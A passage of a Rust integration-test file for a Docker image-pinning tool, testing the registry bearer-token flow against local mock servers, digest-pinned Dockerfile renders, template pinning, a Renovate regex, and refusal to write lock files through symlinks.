            "iss": ISSUER, "sub": "", "aud": SERVICE, "jti": "shipit-test",
            "iat": now - 60, "nbf": now - 60, "exp": now + 3600, "access": access,
        });
        let input = format!(
            "{}.{}",
            URL_SAFE_NO_PAD.encode(header.to_string()),
            URL_SAFE_NO_PAD.encode(claims.to_string())
        );
        let input_file = dir.path().join("input");
        std::fs::write(&input_file, &input).unwrap();
        let signature = run(Command::new("openssl")
            .args(["dgst", "-sha256", "-sign"])
            .arg(&key)
            .arg(&input_file))
        .stdout;
        let token = format!("{input}.{}", URL_SAFE_NO_PAD.encode(signature));
        let body = serde_json::json!({"token": token, "expires_in": 3600}).to_string();

        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let realm = format!("http://{}/token", listener.local_addr().unwrap());
        let requests = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
        let seen = requests.clone();
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(mut stream) = stream else { continue };
                let mut head = Vec::new();
                let mut byte = [0u8; 1];
                while !head.ends_with(b"\r\n\r\n") && stream.read(&mut byte).is_ok_and(|n| n == 1) {
                    head.push(byte[0]);
                }
                let head = String::from_utf8_lossy(&head).into_owned();
                seen.lock()
                    .unwrap()
                    .push(head.lines().next().unwrap_or_default().to_string());
                let _ = stream.write_all(
                    format!(
                        "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                        body.len()
                    )
                    .as_bytes(),
                );
            }
        });
        TokenServer {
            realm,
            cert,
            requests,
            _dir: dir,
        }
    }
}

/// Docker Hub, ghcr.io and quay.io hand out anonymous pull tokens: the
/// registry answers 401 with a `Bearer realm=…,service=…` challenge, the
/// client asks the realm for a token scoped to the repository, and pulls
/// with it. Here a distribution registry in token mode serves the same
/// storage as an open one.
#[test]
fn anonymous_bearer_token_flow_as_on_docker_hub() {
    let open = Registry::start(false);
    open.push_index("library/builder:1");
    open.push("localhost/shipit-amd64", "shipit/runtime:1");
    let tokens = TokenServer::start(&["library/builder", "shipit/runtime"]);
    let registry = Registry::start_token(&open.data(), &tokens);

    let mut stream = TcpStream::connect(&registry.host).unwrap();
    stream.write_all(b"GET /v2/ HTTP/1.0\r\n\r\n").unwrap();
    let mut answer = String::new();
    stream.read_to_string(&mut answer).unwrap();
    assert!(
        answer.starts_with("HTTP/1.0 401") && answer.contains("Bearer realm="),
        "the registry asks for a token:\n{answer}"
    );

    let work = tempfile::tempdir().unwrap();
    let dir = work.path();
    let (builder, runtime) = (
        registry.image("library/builder:1"),
        registry.image("shipit/runtime:1"),
    );
    project(dir, &builder, &runtime);
    let output = shipit(
        dir,
        &["lock", "--insecure-registry", &registry.host],
        &dir.join("docker"),
    );
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    let lock = lock_file(dir);
    assert_eq!(
        pin(&lock, &builder, "digest").as_str(),
        Some(open.digest("library/builder:1").as_str())
    );
    assert_eq!(
        pin(&lock, &runtime, "digest").as_str(),
        Some(open.digest("shipit/runtime:1").as_str())
    );
    let requests = tokens.requests.lock().unwrap().join("\n");
    for scope in ["library%2Fbuilder%3Apull", "shipit%2Fruntime%3Apull"] {
        assert!(
            requests.contains(scope) && requests.contains(&format!("service={SERVICE}")),
            "no token request for `{scope}`:\n{requests}"
        );
    }

    // The token is what opens the repository: one that grants nothing
    // gets a 401, said as a missing login.
    let stingy = TokenServer::start(&[]);
    let registry = Registry::start_token(&open.data(), &stingy);
    project(dir, &registry.image("library/builder:1"), "scratch");
    let output = shipit(
        dir,
        &["lock", "--insecure-registry", &registry.host],
        &dir.join("docker"),
    );
    assert_eq!(output.status.code(), Some(2), "{}", stderr(&output));
    assert!(
        stderr(&output).contains(&format!("no credentials for {}", registry.host)),
        "{}",
        stderr(&output)
    );
}

/// A pinned render of every example parses with BuildKit's parser, with
/// each FROM carrying its digest and the final stage the base labels, and
/// is clean for hadolint.
#[test]
fn pinned_renders_parse_and_lint_clean() {
    let hadolint = common::tool("SHIPIT_HADOLINT", "bin/hadolint", "hadolint");
    let (mut texts, mut dirs) = (Vec::new(), Vec::new());
    for manifest in common::example_manifests() {
        let work = tempfile::tempdir().unwrap();
        let source = manifest.parent().unwrap();
        run(Command::new("cp")
            .arg("-a")
            .arg(format!("{}/.", source.display()))
            .arg(work.path()));
        let dir = work.path();
        // Pin whatever the example uses, with made-up digests.
        let unpinned = shipit(dir, &["render"], &dir.join("docker"));
        assert_eq!(unpinned.status.code(), Some(0), "{}", stderr(&unpinned));
        // Every image the render pulls: bases and helper images (uv's).
        let mut uses: Vec<String> = shipit::lock::image_uses(&stdout(&unpinned))
            .into_iter()
            .map(|u| u.reference)
            .collect();
        uses.sort();
        uses.dedup();
        let pins: Vec<(&str, &str)> = uses.iter().map(|u| (u.as_str(), DIGEST_A)).collect();
        write_lock(dir, &pins);
        let output = shipit(dir, &["render", "-o", "Dockerfile"], &dir.join("docker"));
        assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
        assert!(!stderr(&output).contains("warning"), "{}", stderr(&output));
        let text = std::fs::read_to_string(dir.join("Dockerfile")).unwrap();
        let check = shipit(dir, &["check"], &dir.join("docker"));
        assert_eq!(check.status.code(), Some(0), "{}", stderr(&check));
        texts.push(text);
        dirs.push(work);
    }
    let lint = Command::new(&hadolint)
        .args(["--no-color", "--failure-threshold", "warning"])
        .args(["--ignore", "DL3008", "--ignore", "DL3018"])
        .args(dirs.iter().map(|d| d.path().join("Dockerfile")))
        .output()
        .unwrap_or_else(|e| panic!("cannot run `{hadolint}` (run scripts/test.sh): {e}"));
    assert!(lint.status.success(), "hadolint:\n{}", stdout(&lint));
    for (text, parsed) in texts.iter().zip(common::parse_dockerfiles(&texts)) {
        let instructions = parsed.unwrap_or_else(|e| panic!("{e}:\n{text}"));
        let froms: Vec<&common::Instruction> =
            instructions.iter().filter(|i| i.cmd == "FROM").collect();
        // A stage built on an earlier stage names no image.
        let stages: Vec<&str> = froms
            .iter()
            .filter_map(|f| f.value.get(2).map(String::as_str))
            .collect();
        for from in &froms {
            let image = from.value[0].as_str();
            assert!(
                image == "scratch"
                    || stages.contains(&image)
                    || image.ends_with(&format!("@{DIGEST_A}")),
                "unpinned `{image}`:\n{text}"
            );
        }
        let last = froms.last().unwrap();
        let final_stage = &instructions[instructions
            .iter()
            .position(|i| std::ptr::eq(i, *last))
            .unwrap()..];
        let labels: Vec<&String> = final_stage
            .iter()
            .filter(|i| i.cmd == "LABEL")
            .flat_map(|i| &i.value)
            .collect();
        let pinned_base = last.value[0] != "scratch";
        assert_eq!(
            labels
                .iter()
                .any(|v| v.as_str() == "org.opencontainers.image.base.digest"),
            pinned_base,
            "base labels {labels:?}:\n{text}"
        );
    }
}

/// An organisation template that names a helper image literally passes it
/// through `pin()`, and gets the lock's digest like the plan's images.
#[test]
fn templates_pin_literal_images_with_pin() {
    let work = tempfile::tempdir().unwrap();
    let dir = work.path();
    let manifest = project(dir, "golang:1.25", "alpine:3.22");
    let text = std::fs::read_to_string(&manifest).unwrap();
    std::fs::write(&manifest, format!("templates = \"org\"\n{text}")).unwrap();
    std::fs::create_dir_all(dir.join("org")).unwrap();
    std::fs::write(
        dir.join("org/go.Dockerfile.j2"),
        "{% extends \"builtin/go.Dockerfile.j2\" %}\n{% block runtime %}\n{{ super() -}}\nCOPY --from={{ pin(\"ghcr.io/acme/tools:1\") }} /tool /usr/local/bin/tool\n{% endblock %}\n",
    )
    .unwrap();
    let config = dir.join("docker");

    let output = shipit(dir, &["render"], &config);
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    assert!(
        stdout(&output).contains("COPY --from=ghcr.io/acme/tools:1 /tool"),
        "without a lock, as written:\n{}",
        stdout(&output)
    );

    write_lock(
        dir,
        &[
            ("golang:1.25", DIGEST_A),
            ("alpine:3.22", DIGEST_B),
            ("ghcr.io/acme/tools:1", DIGEST_B),
        ],
    );
    let output = shipit(dir, &["render", "-o", "Dockerfile"], &config);
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    assert!(!stderr(&output).contains("warning"), "{}", stderr(&output));
    let text = std::fs::read_to_string(dir.join("Dockerfile")).unwrap();
    assert!(
        text.contains(&format!(
            "COPY --from=ghcr.io/acme/tools:1@{DIGEST_B} /tool"
        )),
        "{text}"
    );
    let output = shipit(dir, &["check"], &config);
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
}

/// The README's Renovate custom manager finds every pin of a lock shipit
/// writes, with the name, tag and digest Renovate needs.
#[test]
fn readme_renovate_manager_matches_the_lock_format() {
    let readme = std::fs::read_to_string(common::root().join("README.md")).unwrap();
    let config = readme
        .split("```json\n")
        .nth(1)
        .and_then(|rest| rest.split("```").next())
        .expect("the README shows a Renovate config");
    let config: serde_json::Value = serde_json::from_str(config).expect("it is JSON");
    let pattern = config["customManagers"][0]["matchStrings"][0]
        .as_str()
        .unwrap();
    let pattern = regex::Regex::new(pattern).unwrap();

    let mut lock = shipit::lock::Lock::default();
    for (reference, name, digest) in [
        ("golang:1.25", "docker.io/library/golang:1.25", DIGEST_A),
        ("127.0.0.1:5000/x/rt:1", "127.0.0.1:5000/x/rt:1", DIGEST_B),
    ] {
        lock.images.insert(
            reference.into(),
            shipit::lock::Pin {
                name: name.into(),
                digest: digest.into(),
                media_type: "application/vnd.oci.image.index.v1+json".into(),
                platforms: vec!["linux/amd64".into()],
            },
        );
    }
    let found: Vec<(String, String, String)> = pattern
        .captures_iter(&lock.to_toml())
        .map(|c| {
            (
                c["depName"].into(),
                c["currentValue"].into(),
                c["currentDigest"].into(),
            )
        })
        .collect();
    assert_eq!(
        found,
        [
            ("127.0.0.1:5000/x/rt".into(), "1".into(), DIGEST_B.into()),
            (
                "docker.io/library/golang".into(),
                "1.25".into(),
                DIGEST_A.into()
            ),
        ]
    );
}

/// `lock --all` writes every lock or none: one it must refuse (a link out
/// of its directory) leaves the others as they were. A lock read through
/// such a link is refused too, not trusted.
#[test]
fn lock_all_writes_every_lock_or_none() {
    let tree = tempfile::tempdir().unwrap();
    let outside = tempfile::tempdir().unwrap();
    let docker = tree.path().join("docker");
    std::fs::create_dir_all(&docker).unwrap();
    // Each lock pins what the render uses, plus an image it no longer
    // does: lock rewrites both without asking a registry.
    let pins = [
        ("golang:1.22", DIGEST_A),
        ("alpine:3.22", DIGEST_A),
        ("alpine:3", DIGEST_B),
    ];
    let a = tree.path().join("a");
    project(&a, "golang:1.22", "alpine:3.22");
    write_lock(&a, &pins);
    let b = tree.path().join("b");
    project(&b, "golang:1.22", "alpine:3.22");
    write_lock(outside.path(), &pins);
    std::os::unix::fs::symlink(outside.path().join("shipit.lock"), b.join("shipit.lock")).unwrap();
    let before = std::fs::read_to_string(a.join("shipit.lock")).unwrap();

    let output = shipit(tree.path(), &["lock", "--all", "."], &docker);
    assert_eq!(output.status.code(), Some(2), "{}", stderr(&output));
    assert!(stderr(&output).contains("outside"), "{}", stderr(&output));
    assert_eq!(
        std::fs::read_to_string(a.join("shipit.lock")).unwrap(),
        before
    );

    let output = shipit(&b, &["render"], &docker);
    assert_eq!(output.status.code(), Some(2), "{}", stderr(&output));
}
